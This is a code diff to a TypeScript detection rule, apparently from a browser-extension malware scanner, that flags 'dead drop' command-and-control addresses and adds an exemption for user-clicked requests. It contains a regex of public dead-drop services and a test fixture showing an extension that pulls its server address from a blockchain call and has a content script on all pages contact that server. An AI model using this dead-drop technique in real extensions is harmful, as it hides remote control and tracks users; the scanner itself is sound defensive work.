@@ -3,10 +3,11 @@ import type { Facts } from '../../facts.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts } from './checkScripts.ts';
 import { isHeldServerText } from './heldServerText.ts';
+import { listenersOf } from './listeners.ts';
 import { hostOf, mentions, requestsOf, type Request } from './network.ts';
 import { originPaths, originsOf } from './origins.ts';
 import { leavesBy } from './sendings.ts';
-import { few } from './usage.ts';
+import { callsWithin, few } from './usage.ts';
 
 /** Public places in which anybody can leave a text. */
 const PLACES = /\/\/(?:(?:[\w-]+\.)?cloudflare-dns\.com\/|dns\.google\/|dns\.quad9\.net|doh\.[\w.-]+\/|[^/]+\/dns-query|t\.me\/|telegra\.ph\/|api\.telegra\.ph\/|pastebin\.com\/|paste\.ee\/|rentry\.co\/|hastebin\.com\/|gist\.github(?:usercontent)?\.com\/|api\.github\.com\/gists|docs\.google\.com\/(?:spreadsheets|document|forms|presentation)|sheets\.googleapis\.com\/|(?:www\.)?steamcommunity\.com\/|(?:www\.)?youtube\.com\/(?:watch|channel|@)|(?:mobile\.)?(?:twitter|x)\.com\/|[\w.-]*mastodon[\w.-]*\/|[\w-]+\.blogspot\.com\/|calendar\.(?:app\.)?google|blockchain\.info\/|mempool\.space\/|blockstream\.info\/|api\.etherscan\.io\/|api\.blockcypher\.com\/)/i;
@@ -30,7 +31,10 @@ export const deadDropAddress = defineRule({
     const drops = dropsOf(script);
     const kept = drops.length === 0 && facts.whole(someDropIsKept);
     if (drops.length === 0 && !kept) return;
+    const clicked = new Set(listenersOf(script, 'click', 'submit', 'change').flatMap(({ fn }) => callsWithin(script, fn).map((call) => call.value)));
     for (const request of few(requestsOf(script), 200)) {
+      // What the person asked for may well lead on: the picture of a token, a document of a list.
+      if (clicked.has(request.value)) continue;
       if (request.address === 0 || hostOf(request.to) !== undefined || !/^(?:(?:https?|wss?):\/\/)?\*/.test(request.to)) continue;
       const origins = originsOf(script, request.address);
       const drop = drops.find((one) => one.value !== request.value && origins.has(one.value));
@@ -48,6 +52,7 @@ export const deadDropAddress = defineRule({
       { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}', 'bg.js': 'chrome.alarms.onAlarm.addListener(async () => { const r = await fetch("https://rpc.chain.example/", { method: "POST", body: JSON.stringify({ jsonrpc: "2.0", method: "eth_call", params: [{ to: "0x1" }, "latest"] }) }); const { result } = await r.json(); let s = ""; for (let i = 2; i < result.length; i += 2) s += String.fromCharCode(parseInt(result.substr(i, 2), 16)); chrome.storage.local.set({ srv: s }); });', 'c.js': 'chrome.storage.local.get("srv", async ({ srv }) => { const t = await (await fetch(srv + "/i?h=" + location.host)).text(); use(t); });' } },
     ],
     good: [
+      backgroundExample('show.onclick = async () => { const r = await fetch("https://rpc.chain.example", { method: "POST", body: JSON.stringify({ method: "eth_call", params: [{ to: box.value }] }) }); const { result } = await r.json(); const meta = await (await fetch(decodeURIComponent(result.slice(130).replace(/../g, "%$&")))).json(); img.src = meta.image; };'),
       backgroundExample('(async () => { const r = await fetch("https://cloudflare-dns.com/dns-query?name=a.example&type=A"); const { Answer } = await r.json(); chrome.action.setBadgeText({ text: Answer[0].data }); fetch("https://tool.example/ping"); })();'),
       backgroundExample('(async () => { const { upload } = await (await fetch("https://api.tool.example/session")).json(); await fetch(upload, { method: "PUT", body: "x" }); })();'),
       backgroundExample('(async () => { const r = await (await fetch("https://docs.google.com/spreadsheets/d/e/x/pub?output=csv")).text(); chrome.storage.local.set({ rows: r.split("\\n").length }); fetch(chrome.runtime.getURL("a.json")); })();'),
